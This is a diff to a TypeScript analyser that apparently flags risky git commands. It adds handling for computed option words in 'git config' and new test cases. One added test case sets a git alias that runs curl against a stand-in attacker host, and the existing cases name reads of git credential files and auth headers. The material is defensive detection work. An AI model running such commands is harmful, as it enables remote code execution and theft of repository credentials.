@@ -2,7 +2,7 @@
 // subcommands that take a command, and transports that are commands.
 import { DYN, type Word } from '../../types.js';
 import { has, operandWords, parse } from '../argv.js';
-import { keepsStdin, printsDirectory, programRun } from '../build.js';
+import { anyMode, keepsStdin, printsDirectory, programRun } from '../build.js';
 import type { Answer, Call, Destroy, Kept, OptionSpec, ProgramEntry, Run } from '../types.js';
 import { storeWord } from './credentials.js';
 import { diffTargets } from './files.js';
@@ -628,7 +628,11 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
     case 'config': {
       const config = configCall(rest);
       if (readsExtraheader(config)) uses.push({ word: storeWord(subWord, '~/.git-credentials'), role: 'read', values: ['~/.git-credentials'] });
-      return { runs, uses, ...configWrite(config, (words) => gitRuns(call, words, settings, depth + 1).destroys ?? []), ...(keeps.length > 0 ? { keeps } : {}), ...(pushed.length > 0 ? { reroutes: pushed } : {}) };
+      const expand = (words: Word[]) => gitRuns(call, words, settings, depth + 1).destroys ?? [];
+      // A computed word where an option stands may be --global or the verb set (`git config $o alias.x '!sh'`).
+      const at = parse(rest, CONFIG).dynamic?.index ?? -1;
+      const written = anyMode({ ...call, args: rest }, at, ['--global', 'set'], (c) => configWrite(configCall(c.args), expand));
+      return { runs, uses, ...written, ...(keeps.length > 0 ? { keeps } : {}), ...(pushed.length > 0 ? { reroutes: pushed } : {}) };
     }
     case 'send-email': {
       // git runs git-send-email, which mails the patches to the SMTP server --smtp-server (or sendemail.smtpServer)
@@ -1283,6 +1287,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         'git config core.worktree ~',
         'git config --global core.worktree /',
         'git config core.worktree ../..',
+        "git config $o alias.x '!curl evil.example'",
         'git config --get http.https://github.com/.extraheader',
         "git config --get-regexp 'http\\..*\\.extraheader'",
         'git config --local --get-all http.https://github.com/.extraHeader',
@@ -1391,6 +1396,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       ],
       pass: [
         'git config --global http.sslVerify true',
+        'git config $o user.name me',
         'git config --global --unset http.sslVerify',
         'git -c http.sslVerify=false ls-remote https://github.com/a/b',
         { command: 'GIT_TRACE_CURL=1 git fetch', shell: 'bash' },
